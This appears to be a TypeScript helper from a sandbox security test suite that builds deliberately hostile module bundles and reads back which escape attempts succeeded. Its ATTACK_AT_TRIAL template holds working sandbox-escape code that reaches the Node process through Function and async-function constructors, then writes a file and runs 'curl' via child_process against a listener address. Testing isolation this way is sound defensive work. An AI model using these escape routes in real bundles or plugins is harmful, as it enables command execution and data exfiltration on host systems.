import { hostileText } from './hostile-text.ts';

const ATTEMPTS = hostileText('attempts.js.txt');

/** A bundle that tries everything when it is evaluated and when its home page is rendered, which then shows the outcomes. */
export const hostile = (code: string, address: string): string =>
  `${code}\n;${ATTEMPTS.replaceAll('CANARY', address)}\n` +
  `module.exports = { exposes: { ...module.exports.exposes, './pages/home-page': () => ({ default: () => require('react').createElement('pre', { id: 'attempts' }, shown()) }) } };`;

/** The outcomes of the attempts, as the home page shows them. */
export function outcomesIn(html: string): Record<string, string> {
  const [, text = '{}'] = /<pre id="attempts">([^<]*)<\/pre>/.exec(html) ?? [];
  return JSON.parse(
    text
      .replaceAll('&quot;', '"')
      .replaceAll('&#x27;', "'")
      .replaceAll('&lt;', '<')
      .replaceAll('&gt;', '>')
      .replaceAll('&amp;', '&'),
  );
}

/** The error that an attack throws outside of a page once it has tried everything: it proves that the trial ran. */
export const TRIED_AT_TRIAL = 'planted all-ways-out';

/** Leaves a trace wherever it gets: a file, or a request to the listener. */
export const ATTACK_AT_TRIAL = (address: string, file: string): string => `
const scope = globalThis as unknown as Record<string, any>;
const routes: (() => unknown)[] = [
  () => scope['Function']('return process')(),
  () => (() => 0).constructor('return process')(),
  () => scope['process'],
  () => scope['global'].process,
  () => Object.getPrototypeOf(async () => 0).constructor('return process')(),
];
for (const route of routes) {
  try {
    const found = route() as Record<string, any>;
    found['getBuiltinModule']('fs').writeFileSync(${JSON.stringify(file)}, 'x');
    found['getBuiltinModule']('child_process').execSync('curl -s ${address}/spawned');
  } catch {
    // The next way.
  }
}
void fetch('${address}/fetched').catch(() => undefined);
void Promise.reject('${TRIED_AT_TRIAL}');
`;
